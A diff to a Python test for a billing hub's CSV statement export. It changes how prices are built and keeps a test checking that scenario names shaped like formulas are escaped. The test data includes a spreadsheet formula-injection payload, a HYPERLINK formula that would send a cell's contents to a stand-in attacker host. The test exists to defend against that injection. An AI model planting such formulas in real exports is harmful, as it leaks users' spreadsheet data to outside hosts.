@@ -12,11 +12,12 @@ from sqlalchemy import select
 
 from hub.auth.gate import Denied, Gate
 from hub.billing import statements
-from hub.billing.prices import parse
+from hub.billing.prices import book
 from hub.csv_cells import safe_cell
 from hub.db.models import MeterEvent, Scenario, Tenant
 from hub.demo import world
 from hub.services import admin_views
+from hub.settings import Prices
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
@@ -91,7 +92,7 @@ def test_when_a_scenario_is_named_like_a_formula_then_the_statement_csv_runs_non
                          at=datetime(2026, 11, 15, tzinfo=UTC)))  # fmt: skip
     with db.session() as s:
         tenant = s.get(Tenant, tenant.id)
-        st = statements.statement(s, tenant, "2026-11", parse(""))
+        st = statements.statement(s, tenant, "2026-11", book(Prices()))
     rows = list(csv.DictReader(io.StringIO(statements.to_csv(st))))
     assert [r["scenario"] for r in rows[:-1]] == ["'" + PAYLOADS[0]]
     assert not [c for r in rows for c in r.values() if runs_as_formula(c)]
